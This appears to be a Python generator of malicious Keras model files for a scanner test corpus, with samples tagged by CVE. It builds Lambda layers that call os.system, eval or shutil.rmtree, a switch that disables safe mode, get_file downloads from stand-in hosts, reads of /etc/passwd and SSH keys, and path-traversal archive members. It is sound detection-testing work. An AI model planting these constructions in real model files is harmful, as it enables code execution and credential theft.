"""Keras models whose configuration is code, names any function, or reads and fetches files."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator

from support.hdf5 import Builder, external

from corpus.assembler import Build, Call, Global
from corpus.formats import keras
from corpus.formats.keras import Config, function, h5, layer, old_sequential, sequential, v3
from corpus.formats.plain import npy
from corpus.formats.zips import DEFLATED, zip_of
from corpus.sample import Sample, Variation

FAMILY = "Keras"
LAMBDA = "CVE-2024-3660"
MODULE = "CVE-2025-1550"
GADGETS = "CVE-2025-8747"
LINKS = "CVE-2026-1669"
PICKLED = "https://github.com/keras-team/keras/blob/master/keras/src/saving/keras_saveable.py"
KEEPS = Call(
    Global("builtins", "getattr"), (Global("keras.src.models.sequential", "Sequential"), "_unpickle_model")
)
STREAM = Global("_io", "BytesIO")

Row = tuple[str, str, str, bytes]


def samples(vary: Variation) -> Iterator[Sample]:
    """The old format, then the new one."""
    for technique, source, name, data in (*_old(vary), *_code(vary), *_names(vary), *_files(vary)):
        yield Sample(name=name, data=data, family=FAMILY, technique=technique, source=source)


def _lambda(vary: Variation) -> Config:
    """Keras 2's Lambda with its own byte code."""
    code = [keras.lambda_code(vary.expression()), None, None]
    config: Config = {"name": vary.word(), "function": code, "function_type": "lambda"}
    return {"class_name": "Lambda", "config": config}


def _untyped(vary: Variation) -> Config:
    """The same without saying what it is, or with the source in place of byte code."""
    source = f"lambda x: {vary.expression()}"
    code = vary.pick(([keras.lambda_code(vary.expression()), None, None], source))
    return {"class_name": "Lambda", "config": {"name": vary.word(), "function": code}}


def _old(vary: Variation) -> Iterator[Row]:
    code = _lambda(vary)
    dense: Config = {"class_name": "Dense", "config": {"name": "dense", "units": 4}}
    yield "h5: Lambda", LAMBDA, "model.h5", h5(old_sequential(dense, code))
    yield (
        "h5: Lambda, texts on the heap",
        "CVE-2025-9905",
        "model.hdf5",
        h5(old_sequential(code), variable=True),
    )
    wrapper = vary.pick(("TimeDistributed", "Bidirectional"))
    wrapped: Config = {"class_name": wrapper, "config": {"name": "w", "layer": code}}
    yield f"h5: Lambda within {wrapper}", LAMBDA, "model.h5", h5(old_sequential(wrapped))
    nested = {"class_name": vary.pick(("Model", "Functional")), "config": {"layers": [old_sequential(code)]}}
    yield "h5: Lambda in a model in a model", LAMBDA, "model.h5", h5(nested)
    named: Config = {"function": "system", "function_type": "function", "module": vary.pick(("os", "posix"))}
    named = {"class_name": "Lambda", "config": {**named, "arguments": {"command": vary.command()}}}
    yield "h5: Lambda with a function of a module", LAMBDA, "model.h5", h5(old_sequential(named))
    modern = sequential(layer("keras.layers", "Lambda", {"function": function("os", "system")}))
    yield "h5: the new format's modules", "CVE-2025-9905", "model.h5", h5(modern, version="3.11.0")
    loss = {"loss": {"class_name": "Lambda", "config": code["config"]}, "metrics": []}
    yield "h5: Lambda as the loss", LAMBDA, "model.h5", h5(old_sequential(dense), training=loss)
    yield "h5: Lambda without its type", LAMBDA, "model.h5", h5(old_sequential(dense, _untyped(vary)))
    linked = Builder()
    away = vary.pick(("/etc/passwd", "../../other.h5", f"/tmp/{vary.word()}.h5"))
    link = linked.file(linked.object([external(vary.word(), away)]))
    yield "h5: a link to another file", LINKS, "model.weights.h5", link
    kept = Call(KEEPS, (Build(Call(STREAM, (), "NEWOBJ"), (h5(old_sequential(code)), 0, None)),))
    yield "a pickle that keeps a model with a Lambda", PICKLED, "model.pkl", vary.pickled(kept, 4)
    yield "h5: Lambda, named .keras", LAMBDA, "model.keras", h5(old_sequential(dense, code))


def _code(vary: Variation) -> Iterator[Row]:
    code = layer("builtins", "__lambda__", {"code": keras.lambda_code(vary.expression()), "defaults": None})
    layered = layer("keras.layers", "Lambda", {"name": "l", "function": code, "arguments": {}})
    yield "v3: Lambda", LAMBDA, "model.keras", v3(sequential(keras.dense(), layered))
    away = {"module": "keras.src.layers.core.lambda_layer", "class_name": "Lambda"}
    yield "v3: Lambda by its other path", GADGETS, "model.keras", v3(sequential({**layered, **away}))
    hidden = layer("keras.layers", "Dense", {"name": "d", "units": 2, "activation": code})
    yield "v3: a lambda as activation", LAMBDA, "model.keras", v3(sequential(hidden))
    packed = zip_of(
        {"config.json": json.dumps(sequential(layered)).encode(), "metadata.json": b"{}"}, method=DEFLATED
    )
    yield "v3: Lambda, deflated, no weights", LAMBDA, "model.keras", packed
    unsafe = layer(
        "keras.layers", "Lambda", {"function": function("keras.config", "enable_unsafe_deserialization")}
    )
    yield (
        "v3: switches safe mode off, then Lambda",
        "CVE-2025-9906",
        "model.keras",
        v3(sequential(unsafe, layered)),
    )
    stream = base64.b64encode(vary.payload(2)).decode()
    wrapper = layer(
        "keras.layers", "TorchModuleWrapper", {"name": "t", "module": stream, "output_shape": None}
    )
    yield "v3: TorchModuleWrapper", "CVE-2025-49655", "model.keras", v3(sequential(wrapper))
    escaped = (
        json.dumps(sequential(layered))
        .replace("Lambda", "\\u004cambda")
        .replace("__lambda__", "__l\\u0061mbda__")
    )
    yield "v3: Lambda in escapes", LAMBDA, "model.keras", v3(escaped.encode())


def _names(vary: Variation) -> Iterator[Row]:
    """Modules and functions of one's choice."""
    targets = (
        ("os", "system"),
        ("subprocess", "run"),
        ("builtins", "eval"),
        ("posix", "popen"),
        ("shutil", "rmtree"),
    )
    module, name = vary.pick(targets)
    arguments = {"name": "l", "function": function(module, name), "arguments": {"x": vary.command()}}
    yield (
        f"v3: Lambda with {module}.{name}",
        MODULE,
        "model.keras",
        v3(sequential(layer("keras.layers", "Lambda", arguments))),
    )
    yield (
        f"v3: {module}.{name} as a class",
        MODULE,
        "model.keras",
        v3(sequential(layer(module, name, {"args": [vary.command()]}))),
    )
    typed = {"class_name": "__typespec__", "spec_name": name, "module": module, "config": [vary.command()]}
    yield (
        "v3: a type that is a function",
        MODULE,
        "model.keras",
        v3(
            sequential(
                layer("keras.layers", "Dense", {"units": 1, "dtype": {**typed, "registered_name": None}})
            )
        ),
    )
    compiled = {"optimizer": "adam", "loss": function(module, name), "metrics": None}
    yield (
        f"v3: {module}.{name} as the loss",
        MODULE,
        "model.keras",
        v3(sequential(keras.dense(), compile_config=compiled)),
    )
    getter = layer("keras.layers", "Lambda", {"function": function("keras.utils", "get_file")})
    fetched = {**getter, "inbound_nodes": [{"args": ["x", f"http://{vary.word()}.invalid/x"], "kwargs": {}}]}
    yield "v3: get_file", GADGETS, "model.keras", v3(sequential(fetched))
    extracting = layer(
        "keras.layers",
        "Lambda",
        {"function": function("keras.src.utils.file_utils", "get_file"), "arguments": {"extract": True}},
    )
    yield "v3: get_file that unpacks", "CVE-2025-12638", "model.keras", v3(sequential(extracting))
    loader = vary.pick(
        (("numpy", "load"), ("keras.models", "load_model"), ("torch", "load"), ("pickle", "load"))
    )
    again = layer("keras.layers", "Lambda", {"function": function(*loader), "arguments": {"x": "/tmp/x"}})
    yield f"v3: loads another file with {loader[0]}", GADGETS, "model.keras", v3(sequential(again))


def _files(vary: Variation) -> Iterator[Row]:
    place = vary.pick(
        ("/etc/passwd", "/proc/self/environ", f"http://{vary.word()}.invalid/x", "../../.ssh/id_rsa")
    )
    names = ("StringLookup", "IntegerLookup", "TextVectorization")
    for name in vary.some(names, 2):
        config = {"name": "v", "vocabulary": place, "output_mode": "int"}
        yield (
            f"v3: {name} reads a file",
            "CVE-2025-12058",
            "model.keras",
            v3(sequential(layer("keras.layers", name, config))),
        )
    other = layer("keras.layers", "TFSMLayer", {"filepath": f"/tmp/{vary.word()}", "call_endpoint": "serve"})
    yield "v3: TFSMLayer", "CVE-2026-1462", "model.keras", v3(sequential(other))
    weights = {"model.weights.npz": zip_of({"w.npy": npy(vary.payload(3), "'|O'", "(1,)")})}
    yield (
        "v3: weights as objects in .npz",
        "https://github.com/protectai/modelscan/pull/262",
        "model.keras",
        v3(sequential(keras.dense()), weights),
    )
    extra = {"assets/vocabulary.pkl": vary.payload()}
    yield "v3: a pickle among the assets", GADGETS, "model.keras", v3(sequential(keras.dense()), extra)
    yield (
        "v3: a member outside the folder",
        "CVE-2025-12060",
        "model.keras",
        v3(sequential(keras.dense()), {vary.pick(("../../x.py", "/tmp/x.py")): b"print(1)\n"}),
    )
    bare = json.dumps(sequential(layer("keras.layers", "Lambda", {"function": function("os", "system")})))
    yield "config.json alone", MODULE, "config.json", bare.encode()
